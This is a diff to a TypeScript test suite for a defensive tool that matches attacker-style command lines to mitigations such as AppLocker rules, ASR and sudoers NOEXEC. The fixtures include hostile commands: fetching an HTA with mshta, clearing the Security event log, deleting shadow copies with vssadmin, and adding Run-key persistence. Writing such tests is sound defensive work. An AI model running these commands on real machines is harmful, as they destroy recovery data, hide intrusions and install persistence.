@@ -17,6 +17,7 @@ interface Answer {
       readonly target: string;
       readonly mitigation: string;
       readonly text: string;
+      readonly doubt?: string;
       readonly cost?: { readonly times: number; readonly hosts: number };
     }[];
   }[];
@@ -48,6 +49,11 @@ describe("what would have stopped it", () => {
     ["msiexec /q /i C:\\Users\\ann\\p.msi", "applocker", "M1038", "Windows Installer rule"],
     ["pcalua.exe -a C:\\Users\\ann\\a.exe", "exploitprotection", "M1050", "no child processes"],
     ["mshta https://files.example.net/a.hta", "rpz", "M1021", "files.example.net is not there"],
+    ["wmic process call create C:\\Users\\ann\\a.exe", "asr", "M1050", "PsExec and WMI"],
+    ["wmic process call create C:\\Users\\ann\\a.exe", "features", "M1042", "remove the capability WMIC"],
+    ["schtasks /create /tn a /tr C:\\Users\\ann\\a.exe", "applocker", "M1026", "leave schtasks.exe to administrators"],
+    ["wevtutil cl Security", "applocker", "M1038", "deny wevtutil.exe to all who log on"],
+    ["rundll32 payload,Start", "applocker", "M1038", "DLL rules that allow libraries of Windows"],
     ["split --filter=/tmp/x a.txt", "apparmor", "M1038", "/usr/bin/split"],
     ["split --filter=/tmp/x a.txt", "sudoers", "M1026", "NOEXEC"],
     ["split --filter=/tmp/x a.txt", "fapolicyd", "M1038", "/tmp/"],
@@ -59,6 +65,28 @@ describe("what would have stopped it", () => {
 
   it("names nothing for ordinary use of nothing on anybody’s behalf", async () => {
     expect(await explained("notepad.exe C:\\Users\\ann\\a.txt")).toEqual([]);
+  });
+
+  it("claims of no rule for groups that it stops who has administrative rights", async () => {
+    const [group] = (await explained("schtasks /create /tn a /tr a.exe")).filter(
+      ({ mitigation }) => mitigation === "M1026",
+    );
+    expect(group?.doubt).toContain("administrator");
+    const rights = await explained("vssadmin delete shadows /all /quiet");
+    expect(rights.map(({ mitigation }) => mitigation)).not.toContain("M1026");
+    const binary = { name: "schtasks.exe", platform: "windows", entry: "windows/schtasks" } as const;
+    const bySystem = curesOf({ binary, runs: [], fetches: [], user: "NT AUTHORITY\\SYSTEM" }, catalog);
+    expect(bySystem.filter(({ target }) => target === "applocker")).toEqual([]);
+  });
+
+  it("leaves what everybody’s session needs to everybody", async () => {
+    for (const line of ["rundll32 shell32.dll,Control_RunDLL", "explorer shell:::{0}", "cmd /c a.exe"])
+      expect((await explained(line)).map(({ text }) => text).join("\n")).not.toMatch(/leave|log on/);
+  });
+
+  it("does not take a command that is kept for later for a child", async () => {
+    const line = "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\Users\\ann\\a.exe";
+    expect((await explained(line)).map(({ target }) => target)).not.toContain("exploitprotection");
   });
 
   it("names a parent’s rule where the parent is known", async () => {
